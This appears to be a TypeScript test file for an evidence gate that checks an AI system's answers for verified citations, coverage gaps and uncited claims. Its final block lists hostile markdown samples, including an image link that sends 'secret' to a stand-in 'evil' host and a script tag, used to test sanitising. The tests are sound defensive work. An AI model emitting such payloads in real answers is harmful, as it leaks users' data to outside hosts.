import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import type { CoverageFile, EvidenceFile, FinalAnswer } from '../../src/contracts/index.ts';
import {
  type GateResult,
  gateAnswer,
  gateError,
  type ReduceJob,
  reduceEvidence,
} from '../../src/evidence/index.ts';
import { CorpusOnDisk } from './corpus-on-disk.ts';
import { liveNodes } from './live-markdown.ts';

const TEXT =
  'Zeroth line.\nThe engine needs oil.\nThe gauge shows 5 bar.\nAdding water is not advised [1].\nA last line.\n';

let corpus: CorpusOnDisk;
let evidence: EvidenceFile;
let full: CoverageFile;
let partial: CoverageFile;

beforeAll(async () => {
  corpus = new CorpusOnDisk();
  const chunks = corpus.add('docs/a.md', TEXT);
  const quotes = ['The engine needs oil.', 'Adding water is not advised [1].'];
  const jobs = quotes.map((quote) =>
    corpus.job(chunks, { evidence: [{ quote, loc: 'docs/a.md:1-1', note: 'It says so.' }] }),
  );
  const input = { jobs, chunks: corpus.chunks, reader: corpus.reader, runDir: corpus.dir };
  ({ evidence, coverage: full } = await reduceEvidence({ ...input, sources: [...corpus.sources] }));
  corpus.leaveOut('image.png', Buffer.byteLength(TEXT));
  ({ coverage: partial } = await reduceEvidence({ ...input, sources: corpus.sources }));
});

function answer(changes: Partial<FinalAnswer>): FinalAnswer {
  return {
    content: 'It needs oil [1].',
    confidence: 0.9,
    citations: [{ claim_id: 'c-1', sources: ['docs/a.md:2-2'] }],
    gaps: [],
    artifacts: [],
    ...changes,
  };
}

function gate(candidate: unknown, coverage = full, options: { checkStatements?: boolean } = {}): GateResult {
  return gateAnswer(candidate, { evidence, coverage, reader: corpus.reader, ...options });
}

/** The coverage of documents of which some were read. */
async function coverageOf(documents: { text: string; status?: 'accepted' }[], into?: CorpusOnDisk) {
  const made = into ?? new CorpusOnDisk();
  const jobs: ReduceJob[] = [];
  for (const [index, { text, status }] of documents.entries()) {
    const chunks = into === undefined ? made.add(`d${index}.md`, text) : made.chunks;
    if (status === 'accepted') jobs.push(made.job(chunks, {}));
  }
  const { coverage } = await reduceEvidence({
    jobs,
    chunks: made.chunks,
    sources: made.sources,
    reader: made.reader,
    runDir: made.dir,
  });
  return { corpus: made, coverage };
}

function problems(candidate: unknown): string[] {
  const result = gate(candidate);
  return result.ok ? [] : result.problems.map((problem) => `${problem.code}: ${problem.message}`);
}

describe('an answer is accepted', () => {
  it.each<[string, Partial<FinalAnswer>]>([
    ['with a mark for each citation', {}],
    ['without marks', { content: 'It needs oil.' }],
    [
      'with gaps and nothing cited',
      { content: 'That stays open.', citations: [], gaps: ['The price is open.'] },
    ],
    [
      'with code and verified quotes that look like marks',
      { content: 'Oil [1]:\n> Adding water is not advised [1].\nUse `a[7]`.\n```\nb[9]\n```\n' },
    ],
    ['with a fence inside a longer one', { content: 'Oil [1]:\n````\n```\nb[9]\n```\nc[8]\n````\n' }],
  ])('%s', (_name, changes) => {
    expect(problems(answer(changes))).toEqual([]);
  });
});

describe('an answer is refused', () => {
  it.each<[string, unknown, string]>([
    ['that is no object', 'oil', 'shape: the answer: '],
    ['with a field too many', { ...answer({}), notes: 1 }, 'shape: the answer: Unrecognized key'],
    ['with a field too few', { ...answer({}), artifacts: undefined }, 'shape: artifacts: '],
    ['whose confidence is above 1', answer({ confidence: 1.1 }), 'shape: confidence: '],
    ['that is blank', answer({ content: ' ' }), 'shape: content is blank'],
    ['that neither cites nor names a gap', answer({ content: 'Oil.', citations: [] }), 'nothing_cited: '],
    [
      'that marks what it does not list',
      answer({ citations: [], gaps: ['x'] }),
      "speaks_of_citations: content speaks of citations ('[1]')",
    ],
    [
      'that speaks of citations and has none',
      answer({ content: 'See the citations.', citations: [], gaps: ['x'] }),
      "speaks_of_citations: content speaks of citations ('citations')",
    ],
    [
      'with a mark beyond its citations',
      answer({ content: 'Oil [1-3].' }),
      'mark_without_citation: content has the mark [2], and there are 1 citations',
    ],
    [
      'with a citation that no mark uses',
      answer({ citations: [...answer({}).citations, { claim_id: 'c-2', sources: ['docs/a.md:4-4'] }] }),
      'citation_without_mark: citation 2 (c-2)',
    ],
    [
      'that cites lines nobody verified',
      answer({ citations: [{ claim_id: 'c-1', sources: ['docs/a.md:3-3'] }] }),
      "unverified_source: citations[0] (c-1): 'docs/a.md:3-3' is not verified evidence. Verified there: docs/a.md:2-2, docs/a.md:4-4.",
    ],
    [
      'that cites more lines than were verified',
      answer({ citations: [{ claim_id: 'c-1', sources: ['docs/a.md:1-3'] }] }),
      'unverified_source: ',
    ],
    [
      'that cites a document without evidence',
      answer({ citations: [{ claim_id: 'c-1', sources: ['docs/b.md:1-1'] }] }),
      'unverified_source: ',
    ],
    [
      'that cites something else than lines',
      answer({ citations: [{ claim_id: 'c-1', sources: ['e-0001'] }] }),
      'unverified_source: ',
    ],
    [
      'with a mark behind code in three backticks on one line',
      answer({ content: 'Oil [1].\n```a```\nWater is fine [2].\n' }),
      'mark_without_citation: content has the mark [2]',
    ],
    [
      'with a mark behind a fence that holds another',
      answer({ content: 'Oil [1].\n````\n```\n````\nWater is fine [2].\n' }),
      'mark_without_citation: content has the mark [2]',
    ],
    [
      'with a block quote that is nowhere',
      answer({ content: 'Oil [1].\n> Water is fine [2].\n' }),
      'mark_without_citation: content has the mark [2]',
    ],
  ])('%s', (_name, candidate, expected) => {
    expect(problems(candidate).join('\n')).toContain(expected);
  });

  it('with all of its problems at once, in one error that says what to do', () => {
    const result = gate(
      answer({
        confidence: 7,
        content: 'Oil [4].',
        citations: [{ claim_id: 'c-1', sources: ['no:1-1', 'docs/a.md:9-9'] }],
      }),
    );
    if (result.ok) throw new Error('accepted');
    expect(result.problems.map((problem) => problem.code)).toEqual([
      'shape',
      'mark_without_citation',
      'citation_without_mark',
      'unverified_source',
      'unverified_source',
    ]);
    expect(gateError(result.problems).message).toMatch(/1\. confidence: .*\n2\. .*\n3\. .*\n4\. .*\n5\. /);
  });

  it('once the bytes it cites have changed, or the document is gone', () => {
    const path = join(corpus.dir, 'docs/a.md');
    const before = readFileSync(path);
    writeFileSync(path, TEXT.replace('oil', 'tar'));
    try {
      expect(problems(answer({}))).toEqual([
        "source_changed: citations[0] (c-1): 'docs/a.md:2-2' has changed since it was read: ingest and ask again.",
      ]);
      expect(
        gate(answer({ content: 'Water [1].', citations: [{ claim_id: 'c', sources: ['docs/a.md:4-4'] }] }))
          .ok,
      ).toBe(true);
    } finally {
      writeFileSync(path, before);
    }
  });
});

describe('what is said to be absent', () => {
  const claims = [
    'There is no water pump.',
    'A warranty is not mentioned.',
    'The documents do not say how long it lasts.',
    'No evidence of a recall was found.',
    'None of the parts is magnetic.',
    'The manual doesn’t mention a price [2].',
    'Es gibt kein Ersatzteil.',
    '文件没有提到价格。',
    'There is no other engine [2].',
    'Nothing is said of coolant in any of the documents [2].',
  ];

  it.each(claims)('becomes a gap with the percentage below full coverage: %s', (claim) => {
    const citations = [
      { claim_id: 'c-1', sources: ['docs/a.md:2-2'] },
      ...(claim.includes('[2]') ? [{ claim_id: 'c-2', sources: ['docs/a.md:4-4'] }] : []),
    ];
    const result = gate(
      answer({
        content: `It needs oil [1]. ${claim}\n- ${claim}\nMore oil [1].`,
        citations,
        gaps: ['Own gap.'],
      }),
      partial,
    );
    if (!result.ok) throw new Error(JSON.stringify(result.problems));
    expect(result.moved).toEqual([claim, claim]);
    expect(result.answer.content).toBe('It needs oil [1]. \nMore oil [1].');
    expect(result.answer.citations).toHaveLength(1);
    expect(result.answer.gaps[0]).toContain('only 50 % of the documents');
    expect(result.answer.gaps[0]).toContain(claim.replace(' [2]', ''));
    expect(result.answer.gaps.at(-1)).toBe('Own gap.');
    expect(gate(result.answer, partial)).toMatchObject({
      ok: true,
      answer: result.answer,
      moved: [],
      uncited: [],
    });
  });

  it.each(claims)('stays when everything was read: %s', (claim) => {
    const content = `It needs oil [1]. ${claim.replace('[2]', '[1]')}`;
    expect(gate(answer({ content }))).toMatchObject({ ok: true, moved: [], answer: { content } });
  });

  it('stays when the cited words say so themselves', () => {
    const content = 'No adding of water is advised [1].';
    const citations = [{ claim_id: 'c-1', sources: ['docs/a.md:4-4'] }];
    expect(gate(answer({ content, citations }), partial)).toMatchObject({
      ok: true,
      moved: [],
      answer: { content },
    });
  });

  it.each([
    'There is no need to add water [1].',
    'Water does not help.',
    'No, it needs oil [1].',
    'It is not advised [1].',
  ])('is not what this says: %s', (sentence) => {
    expect(gate(answer({ content: `It needs oil [1]. ${sentence}` }), partial)).toMatchObject({
      ok: true,
      moved: [],
    });
  });

  it('is seen when the sentence goes over several lines', () => {
    const content = 'It needs oil [1].\n\nIn all of it there is\nno water pump. It runs on oil [1].';
    expect(gate(answer({ content }), partial)).toMatchObject({
      moved: ['In all of it there is no water pump.'],
      answer: { content: 'It needs oil [1].\n\n It runs on oil [1].' },
    });
  });

  it.each([
    ['almost everything was read', 9_996, 10_000],
    ['all but one byte was read', 999_999, 1_000_000],
  ])('becomes a gap when %s', async (_name, read, all) => {
    const { coverage } = await coverageOf([
      { text: 'x'.repeat(read), status: 'accepted' },
      { text: 'y'.repeat(all - read) },
    ]);
    expect(coverage.total.percent_read).toBe(99.9);
    expect(gate(answer({ content: 'It needs oil [1]. There is no pump.' }), coverage)).toMatchObject({
      moved: ['There is no pump.'],
    });
  });

  it('becomes a gap when a document of unknown size was skipped', async () => {
    const { corpus: other, coverage } = await coverageOf([{ text: 'All of it.', status: 'accepted' }]);
    expect(gate(answer({ content: 'It needs oil [1]. There is no pump.' }), coverage)).toMatchObject({
      moved: [],
    });
    other.leaveOut('gone.md', null);
    const { coverage: less } = await coverageOf([{ text: 'All of it.', status: 'accepted' }], other);
    expect(less.total).toMatchObject({ percent_read: 100, sources_skipped: 1 });
    expect(gate(answer({ content: 'It needs oil [1]. There is no pump.' }), less)).toMatchObject({
      moved: ['There is no pump.'],
    });
  });

  it('stays when all that was skipped is a second copy of what was read', async () => {
    const { corpus: other } = await coverageOf([{ text: 'All of it.', status: 'accepted' }]);
    other.leaveOut('copy.md', 10, 'duplicate');
    const { coverage } = await coverageOf([{ text: 'All of it.', status: 'accepted' }], other);
    expect(coverage.total).toMatchObject({ bytes: 10, sources: 1, sources_skipped: 0, percent_read: 100 });
    expect(gate(answer({ content: 'It needs oil [1]. There is no pump.' }), coverage)).toMatchObject({
      moved: [],
    });
  });

  it('leaves a sentence when nothing else remains', () => {
    const result = gate(answer({ content: 'There is no pump.', citations: [], gaps: ['x'] }), partial);
    expect(result).toMatchObject({
      ok: true,
      answer: { content: "What was read (50 % of the documents' bytes) does not settle this." },
    });
  });
});

describe('what no citation supports', () => {
  const content =
    '# What the engine needs\n\nIt needs oil, e.g. the thick kind [1]. The pump was built in\nNorway. Why?\n\nThese parts matter:\n- The valve is made of brass.\n- The engine has oil. [1]\n';

  it('is returned and named in the gaps, statement by statement', () => {
    const result = gate(answer({ content }), full, { checkStatements: true });
    expect(result).toMatchObject({
      ok: true,
      uncited: ['The pump was built in Norway.', 'The valve is made of brass.'],
      answer: {
        gaps: [
          'No evidence is cited for: “The pump was built in Norway.”',
          'No evidence is cited for: “The valve is made of brass.”',
        ],
      },
    });
  });

  it('is refused when it cites words that say something else', () => {
    const said = (text: string) => gate(answer({ content: text }), full, { checkStatements: true });
    expect(said('The engine does not need oil [1].')).toMatchObject({
      problems: [{ code: 'unsupported_claim', message: expect.stringContaining("a negation ('not')") }],
    });
    expect(said('The engine needs 7 litres of oil [1].')).toMatchObject({
      problems: [{ code: 'unsupported_claim', message: expect.stringContaining('the number 7') }],
    });
    expect(said('Oil is what the engine needs [1].')).toMatchObject({ ok: true });
  });

  it('is not named twice when the gaps name it already', () => {
    const gaps = ['The pump was built in Norway: nobody says so.', 'the valve is made of brass'];
    expect(gate(answer({ content, gaps }), full, { checkStatements: true })).toMatchObject({
      uncited: [],
      answer: { gaps },
    });
  });

  it('is everything when several statements share citations without a mark', () => {
    expect(gate(answer({ content: 'It needs oil.' }), full, { checkStatements: true })).toMatchObject({
      uncited: [],
    });
    expect(
      gate(answer({ content: 'It needs oil. It runs on air.' }), full, { checkStatements: true }),
    ).toMatchObject({
      uncited: ['It needs oil.', 'It runs on air.'],
    });
  });
});

describe('nothing in an answer comes alive in a client that renders it', () => {
  const hostile = [
    '![x](http://evil/?d=secret)',
    '[click](http://evil)',
    '[click][1]\n\n[1]: http://evil',
    '<img src="http://evil">',
    '<https://evil>',
    '&#91;x](http://evil) <script>alert(1)</script>',
    '\\`![x](http://evil)\\`',
    '- ```\n![x](http://evil)\n```',
    '`open\n`![x](http://evil)`',
    '> ```\n![x](http://evil)',
    '|a|\n|-|\n|` | `![x](http://evil)`|',
  ];

  it.each(hostile)('%s', (attack) => {
    const result = gate(answer({ content: `It needs oil [1].\n\n${attack}`, gaps: [attack] }));
    if (!result.ok) throw new Error(JSON.stringify(result.problems));
    expect(liveNodes(result.answer.content)).toEqual([]);
    expect(liveNodes(result.answer.gaps.join('\n\n'))).toEqual([]);
    expect(gate(result.answer)).toMatchObject({ answer: result.answer });
  });

  it('whatever it is put together from', () => {
    const pieces = [
      '![x](http://e)',
      '[a](http://e)',
      '[1]: http://e',
      '[a][1]',
      '<b>',
      '`',
      '``',
      '```',
      '~~~',
      '\n',
      '\n\n',
      '    ',
      '> ',
      '- ',
      '1. ',
      '|',
      '\\',
      'word ',
      '# ',
      '<!--',
      '-->',
      '$',
      '*',
      '\t',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 24 }), (parts) => {
        const result = gate(answer({ content: `Oil [1]\n\n${parts.join('')}` }));
        if (result.ok) expect(liveNodes(result.answer.content)).toEqual([]);
      }),
      { numRuns: 3000 },
    );
  });

  it('while code keeps its characters', () => {
    const content = 'Use `vector<int>[0](x)` as here [1]:\n\n```cpp\nstd::vector<int> a = f[0](x);\n```';
    expect(gate(answer({ content }))).toMatchObject({ ok: true, answer: { content } });
  });
});
